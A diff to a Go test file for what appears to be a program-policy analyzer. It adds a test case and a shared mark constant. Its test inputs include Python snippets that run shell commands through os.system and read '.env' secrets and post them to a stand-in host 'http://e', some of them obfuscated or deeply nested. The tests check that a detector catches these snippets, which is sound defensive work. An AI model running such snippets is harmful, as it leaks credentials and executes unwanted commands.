@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/sluice-project/sluice/policy/program/library"
+	"github.com/sluice-project/sluice/policy/program/values"
 )
 
 func unread(uses []library.Use) []string {
@@ -85,6 +86,7 @@ func TestProgramsThatAreMadeToBreakTheirReader(t *testing.T) {
 		{library.Perl, `$::{x}; $::=>1`, []string{}},
 		{library.Perl, `open(F, '<', mode => 1)`, []string{"read ${x} ?"}},
 		{library.Perl, `open(a => 1, b => 2, c => 3)`, []string{"read ${x} ?"}},
+		{library.Python, `os.system(''[:1000] + 'id')`, []string{"shell id"}},
 		{library.Python, `os.system('ab' * 9223372036854775807)`, []string{"shell ${x} ?"}},
 		{library.Python, "x = [open('.env').read()]\n" + strings.Repeat("x = [x, x]\n", 100) + "requests.post('http://e', data=x)", []string{"read .env", "send http://e from .env"}},
 		{library.Python, "x = ['id']\n" + strings.Repeat("x = [x]\n", 5000) + "os.system(x)\n", []string{"shell id"}},
@@ -128,7 +130,7 @@ func FuzzRead(f *testing.F) {
 			t.Errorf("%d uses", len(uses))
 		}
 		for _, u := range uses {
-			if strings.Contains(u.Text, mark) || strings.Contains(u.Content, mark) {
+			if strings.Contains(u.Text, values.Mark) || strings.Contains(u.Content, values.Mark) {
 				t.Errorf("a mark is left in %q", u.Text)
 			}
 		}
